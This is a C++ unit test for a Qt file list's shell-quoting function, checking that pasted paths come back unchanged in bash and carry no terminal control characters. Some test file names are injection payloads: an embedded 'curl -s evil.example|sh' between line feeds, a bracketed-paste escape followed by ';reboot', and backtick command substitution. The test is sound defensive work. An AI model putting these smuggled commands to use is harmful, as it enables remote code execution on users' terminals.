#include "model/UriList.h"

#include <QProcess>

#include <gtest/gtest.h>

namespace {

// What bash makes of `words` on a command line: each argument's bytes.
QList<QByteArray> readByBash(const QString &words)
{
    QProcess bash;
    bash.start(QStringLiteral("bash"), {QStringLiteral("-c"), QStringLiteral("printf '%s\\0' ") + words});
    if (!bash.waitForFinished(10000) || bash.exitCode() != 0)
        return {QByteArrayLiteral("(bash failed)")};
    QList<QByteArray> arguments = bash.readAllStandardOutput().split('\0');
    arguments.removeLast();
    return arguments;
}

} // namespace

// A file list pasted into a terminal goes to a shell: each address must come back as itself, and no character
// of it may reach the terminal as a control (a line feed would run the line, an escape end a bracketed paste).
TEST(UriList, ShellWordsReadBackAsTheAddressesAndHoldNoControlCharacter)
{
    struct Row {
        QStringList addresses; // paths, or addresses with a scheme
        const char *words;
    };
    const Row rows[] = {
        {{QStringLiteral("/tmp/report.pdf")}, "/tmp/report.pdf"},
        {{QStringLiteral("/tmp/it's a b.txt"), QStringLiteral("/tmp/Grüße")}, "'/tmp/it'\\''s a b.txt' '/tmp/Grüße'"},
        {{QStringLiteral("/home/u/report\ncurl -s evil.example|sh\n.pdf")},
         "$'/home/u/report\\x0acurl -s evil.example|sh\\x0a.pdf'"},
        {{QStringLiteral("/tmp/x\x1b[201~;reboot\tff")}, "$'/tmp/x\\x1b[201~;reboot\\x09ff'"},
        {{QStringLiteral("/tmp/a\\b'\u009bc\u007f")}, "$'/tmp/a\\\\b\\'\\xc2\\x9bc\\x7f'"},
        {{QStringLiteral("sftp://host/a%20b.txt"), QStringLiteral("/tmp/$HOME `id`")},
         "sftp://host/a%20b.txt '/tmp/$HOME `id`'"},
    };
    for (const Row &row : rows) {
        SCOPED_TRACE(row.words);
        QList<QUrl> urls;
        QList<QByteArray> expected;
        for (const QString &address : row.addresses) {
            urls.append(address.startsWith(u'/') ? QUrl::fromLocalFile(address) : QUrl(address));
            expected.append(address.toUtf8());
        }
        const QString words = UriList::shellWords(urls);
        EXPECT_EQ(words, QString::fromUtf8(row.words));
        EXPECT_EQ(readByBash(words), expected);
        for (const QChar c : words)
            EXPECT_TRUE(c.unicode() >= 0x20 && c.unicode() != 0x7f && (c.unicode() < 0x80 || c.unicode() >= 0xa0));
    }
}
